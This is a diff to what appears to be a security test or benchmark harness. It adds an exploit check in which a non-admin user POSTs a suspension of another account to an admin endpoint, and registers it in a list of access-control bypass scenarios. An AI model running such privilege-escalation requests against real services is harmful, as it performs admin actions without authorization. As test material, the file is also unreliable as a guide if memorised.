@@ -134,6 +134,12 @@ def product_change(visitor: Any) -> bool:
     return visitor.send("GET", path).json["price"] == 1
 
 
+def suspension(visitor: Any) -> bool:
+    assert visitor.sign_up("nora.gone").status == 201
+    number = visitor.send("GET", "/admin/users", "root").json["items"][-1]["id"]
+    return bool(visitor.send("POST", f"/admin/users/{number}/suspension", "bob").status == 204)
+
+
 def salaries(visitor: Any) -> bool:
     assert visitor.send("GET", "/staff/salaries", "bob").status == 403
     return b"salary" in visitor.send("GET", "/staff/salaries", "sam").content
@@ -222,6 +228,7 @@ EXPLOITS: dict[str, Callable[[Any], bool]] = {
     "audit-log-for-patients": audit_log,
     "product-change-by-patients": product_change,
     "salaries-for-staff": salaries,
+    "suspension-by-patients": suspension,
     "accounts-by-a-slash": accounts_by_a_slash,
     "books-at-internal": books_at_internal,
     "news-undocumented-put": news_put,
